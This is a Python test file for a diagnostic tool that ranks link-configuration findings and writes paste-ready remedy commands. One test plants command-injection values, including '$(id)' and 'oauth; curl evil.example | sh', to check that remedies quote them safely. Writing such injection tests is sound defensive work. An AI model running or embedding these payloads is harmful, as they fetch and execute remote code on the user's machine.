"""How findings become a diagnosis: what is certain first, what is nearer to the wire before what follows from it."""

from __future__ import annotations

import re
import shlex
from dataclasses import replace

import pytest

from applinks.audit import quoted
from applinks.doctor import Status, looking
from applinks.doctor.causes import CAUSES, CONSUMER, MANIFEST, STATE, WHO
from applinks.doctor.notes import Notes
from applinks.links import State
from applinks.people import Person
from in_memory import InMemory, link_to


@pytest.fixture
def notes() -> Notes:
    return Notes(link_to(InMemory("My Wiki")), InMemory("Front").identity, Person("alice"))


def test_where_nothing_was_found_and_something_was_proven_it_is_connected(notes: Notes):
    notes.check(WHO, "as alice")
    assert notes.status() is Status.CONNECTED


def test_no_remedy_runs_what_the_other_application_says_of_itself(notes: Notes):
    """T-67: commands are made to be pasted."""
    name, level = "it's $(id)", "oauth; curl evil.example | sh"
    notes.link = replace(notes.link, name=name, application_url="https://wiki.example.com/$(id)")
    us = notes.us
    they = State(us.id, us.url, "1", 0.0, name, us.url, None, None, "", level, "RSA-SHA256", level, "RSA-SHA256", None)
    looking._compare_levels(notes, they)
    for cause in CAUSES:
        notes.find(cause, "seen")
    remedies = " ".join(finding.remedy for finding in notes.diagnosis(strict=False).findings)
    commands = re.findall("`(applinks [^`]*)`", remedies)
    assert sum(name in " ".join(shlex.split(command)) for command in commands) > 5
    for command in commands:
        bare = command
        for word in (name, level, notes.link.application_url):
            bare = bare.replace(quoted(word), "")
        assert not {"$", "(", ";", "|", "'", '"'} & {*bare}, command


def test_where_nothing_was_proven_it_says_so(notes: Notes):
    notes.check(MANIFEST, "there")
    notes.check(WHO, "not tried", good=None)
    assert notes.status() is Status.UNPROVEN
    assert notes.diagnosis(strict=False).working


def test_the_nearest_to_the_wire_decides(notes: Notes):
    notes.find("CLOCK_SKEW", "late", certain=True)
    notes.find("UNKNOWN_HOST", "who?", certain=True)
    made = notes.diagnosis(strict=False)
    assert made.names == ("UNKNOWN_HOST", "CLOCK_SKEW")
    assert made.status is Status.NETWORK_ERROR


def test_what_is_certain_comes_before_what_is_possible(notes: Notes):
    notes.find("NO_REVERSE_LINK", "perhaps", certain=False)
    notes.find("IMPERSONATION_USER_UNKNOWN", "surely", certain=True)
    assert notes.diagnosis(strict=False).names == ("IMPERSONATION_USER_UNKNOWN", "NO_REVERSE_LINK")


def test_an_old_way_decides_only_where_nothing_else_was_found(notes: Notes):
    notes.find("DEPRECATED_AUTH", "SHA-1", certain=True)
    assert notes.status() is Status.DEPRECATED
    notes.find("SIGNATURE_OTHER", "changed", certain=False)
    assert notes.status() is Status.CONFIG_ERROR


def test_a_cause_is_certain_once_its_probes_were_made(notes: Notes):
    notes.find("SIGNATURE_OTHER", "changed")
    assert [finding.certain for finding in notes.diagnosis(strict=False).findings] == [False]
    notes.check(STATE, "told", good=True)
    notes.check("own address", "tried", good=None)
    assert [finding.certain for finding in notes.diagnosis(strict=False).findings] == [False]
    notes.check("own address", "tried", good=False)
    assert [finding.certain for finding in notes.diagnosis(strict=False).findings] == [True]


def test_said_twice_it_is_one_cause_with_all_its_evidence(notes: Notes):
    for evidence, found in (("one", "`a`"), ("two", "`b`"), ("one", "`a`")):
        notes.find("LEVEL_MISMATCH", evidence, found=found)
    (finding,) = notes.diagnosis(strict=False).findings
    assert finding.evidence == "one; two"
    assert "`a`; `b`" in finding.remedy


def test_a_name_is_one_word_in_a_command(notes: Notes):
    notes.find("DISABLED", "off")
    assert "applinks link change 'My Wiki' --outgoing" in notes.diagnosis(strict=False).findings[0].remedy


def test_what_a_stranger_says_begins_no_line_and_has_an_end(notes: Notes):
    """T-67."""
    notes.find("UNEXPECTED_STATUS", "a\nb\x1b[31m" + "c" * 9000, found="x\ny")
    notes.check(CONSUMER, "a\r\nb", good=None)
    made = notes.diagnosis(strict=False)
    (finding,) = made.findings
    assert all(text.isprintable() for text in (finding.evidence, finding.remedy, made.checks[0].outcome))
    assert len(finding.evidence) <= 2000


def test_what_a_stranger_says_is_no_template(notes: Notes):
    notes.find("UNEXPECTED_STATUS", "x", found="{us.__class__} {0}")
    assert "{us.__class__} {0}" in notes.diagnosis(strict=False).findings[0].remedy


def test_defaults_are_apart_and_change_no_status(notes: Notes):
    notes.check(WHO, "as alice")
    notes.find("PLAIN_HTTP", "http", certain=True)
    made = notes.diagnosis(strict=True)
    assert (made.status, made.findings, [one.cause.name for one in made.defaults]) == (Status.CONNECTED, (), ["PLAIN_HTTP"])
    assert notes.diagnosis(strict=False).defaults == ()
